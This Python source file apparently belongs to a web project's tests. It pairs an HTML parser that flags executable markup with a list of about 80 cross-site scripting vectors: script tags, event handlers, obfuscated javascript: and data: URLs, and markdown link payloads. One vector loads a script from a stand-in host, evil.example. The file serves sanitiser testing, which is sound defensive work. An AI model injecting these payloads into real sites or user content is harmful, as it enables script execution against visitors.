"""A checker for executable markup in rendered HTML, and a corpus of XSS vectors to feed it."""

from __future__ import annotations

import re
from html.parser import HTMLParser

# Elements that run code, load active content, or change how the page is read.
ACTIVE_ELEMENTS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math",
    "style", "base", "portal", "noscript", "template", "xss",
}  # fmt: skip
# Elements the site itself uses but which must never come from what a person wrote.
NOT_IN_USER_CONTENT = {"form", "input", "button", "textarea", "select", "link", "meta", "img"}
URL_ATTRIBUTES = {
    "href", "src", "xlink:href", "action", "formaction", "data", "background", "poster",
    "lowsrc", "dynsrc", "codebase", "cite", "srcset", "ping",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}
HTMX_SCRIPT = "/static/django_htmx/"
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\u2028\u2029\ufeff]")
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
_VOID = {
    "area",
    "base",
    "br",
    "col",
    "embed",
    "hr",
    "img",
    "input",
    "link",
    "meta",
    "source",
    "track",
    "wbr",
}


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see, after dropping whitespace and control characters."""
    match = _SCHEME.match(_INVISIBLE.sub("", value).lower())
    return match.group(1) if match else None


class ExecutableMarkup(HTMLParser):
    """Collect every reason the HTML could run code.

    `user_content_classes` marks regions (by CSS class) that hold what a person
    wrote; with `all_user_content` the whole document is a person's writing, as
    in a feed entry's <content>.
    """

    def __init__(self, *, all_user_content: bool = False) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.all_user_content = all_user_content
        self._stack: list[tuple[str, bool]] = []
        self._htmx_scripts = 0

    def _in_user_content(self) -> bool:
        return self.all_user_content or any(is_user for _, is_user in self._stack)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)
        classes = (dict(attrs).get("class") or "").split()
        if tag not in _VOID:
            self._stack.append((tag, "prose" in classes))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        for index in range(len(self._stack) - 1, -1, -1):
            if self._stack[index][0] == tag:
                del self._stack[index:]
                return

    def handle_comment(self, data: str) -> None:
        if self._in_user_content():
            self.problems.append(f"HTML comment in user content: <!--{data[:60]}-->")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"declaration: <![{data[:60]}]>")

    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = {name: value or "" for name, value in attrs}
        if (
            tag == "script"
            and found.get("src", "").startswith(HTMX_SCRIPT)
            and not self._in_user_content()
        ):
            self._htmx_scripts += 1
            if self._htmx_scripts > 1:
                self.problems.append("a second htmx <script>")
            return
        if tag in ACTIVE_ELEMENTS:
            self.problems.append(f"<{tag}> element")
        if tag in NOT_IN_USER_CONTENT and self._in_user_content():
            self.problems.append(f"<{tag}> inside user content")
        if tag == "meta" and "http-equiv" in found:
            self.problems.append("<meta http-equiv>")
        for name, value in found.items():
            if name.startswith("on"):
                self.problems.append(f"event handler {name}= on <{tag}>")
            if name in URL_ATTRIBUTES:
                for candidate in value.split(",") if name == "srcset" else [value]:
                    scheme = url_scheme(candidate)
                    if scheme is not None and scheme not in SAFE_SCHEMES:
                        self.problems.append(f"{scheme}: URL in {name}= on <{tag}>")
            if name == "srcdoc":
                self.problems.append(f"srcdoc= on <{tag}>")
            if name == "style" and re.search(
                r"expression|javascript|url\(|behavior", _INVISIBLE.sub("", value), re.I
            ):
                self.problems.append(f"active style= on <{tag}>")


def executable_parts(html: str, *, all_user_content: bool = False) -> list[str]:
    checker = ExecutableMarkup(all_user_content=all_user_content)
    checker.feed(html)
    checker.close()
    return checker.problems


B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
B64_SVG = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"//',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    '<a href="https://example.org" onclick="alert(1)">innocent</a>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>click</x>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="  javascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    f'<a href="data:text/html;base64,{B64_SCRIPT}">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    f'<embed src="data:image/svg+xml;base64,{B64_SVG}">',
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="background-image:url(javascript:alert(1))">x</p>',
    '<xss style="behavior: url(xss.htc);">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1) )",
    '[x](javascript:alert(1) "title")',
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript://%0Aalert(1))",
    "[x](vbscript:msgbox(1))",
    f"[x](data:text/html;base64,{B64_SCRIPT})",
    "[x](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)",
    "[@x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    f"![x](data:image/svg+xml;base64,{B64_SVG})",
    '![x](x" onerror="alert(1))',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]\n\n[x]: vbscript:msgbox(1)",
    "[x][y]\n\n[y]: data:text/html;base64," + B64_SCRIPT,
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<!--<script>alert(1)</script>-->",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "@<script>alert(1)</script>",
]
